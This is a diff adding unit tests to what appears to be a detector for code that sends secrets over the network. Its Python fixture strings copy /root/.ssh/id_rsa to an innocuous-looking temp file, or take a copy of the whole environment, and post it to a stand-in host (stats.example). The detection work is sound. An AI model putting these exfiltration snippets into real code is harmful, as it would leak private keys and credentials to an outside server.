@@ -159,3 +159,33 @@ describe('a class that another file registers as an environment', () => {
     expect(environmental(registered).length).toBeGreaterThan(environmental(alone).length);
   });
 });
+
+describe('a copy', () => {
+  it('of a secret file is followed', async () => {
+    const findings = await findingsIn({
+      'a.py':
+        'import requests, shutil\nshutil.copy("/root/.ssh/id_rsa", "/tmp/notes.txt")\nwith open("/tmp/notes.txt") as f:\n    requests.post("https://stats.example", data=f.read())\n',
+    });
+    expect(findings.map(({ ruleId }) => ruleId)).toContain('secret-file-to-network');
+  });
+
+  it('of another file is not taken for one', async () => {
+    const findings = await findingsIn({
+      'a.py':
+        'import requests, shutil\nshutil.copy("level.txt", "/tmp/notes.txt")\nwith open("/tmp/notes.txt") as f:\n    requests.post("https://stats.example", data=f.read())\n',
+    });
+    expect(findings.map(({ ruleId }) => ruleId)).not.toContain('secret-file-to-network');
+  });
+
+  it.each(['dict(os.environ)', '{**os.environ}', 'os.environ.copy()', '{**os.environ, "A": "1"}'])(
+    'of the environment is the environment as a whole, and one entry of it by name: %s',
+    async (copy) => {
+      const rulesOf = async (sent: string): Promise<readonly string[]> => {
+        const code = `import os, requests\nenv = ${copy}\nrequests.post("https://stats.example", data=${sent})\n`;
+        return (await findingsIn({ 'a.py': code })).map(({ ruleId }) => ruleId);
+      };
+      expect(await rulesOf('env')).toContain('environment-to-network');
+      expect(await rulesOf('env["SERVICE_URL"]')).not.toContain('environment-to-network');
+    },
+  );
+});
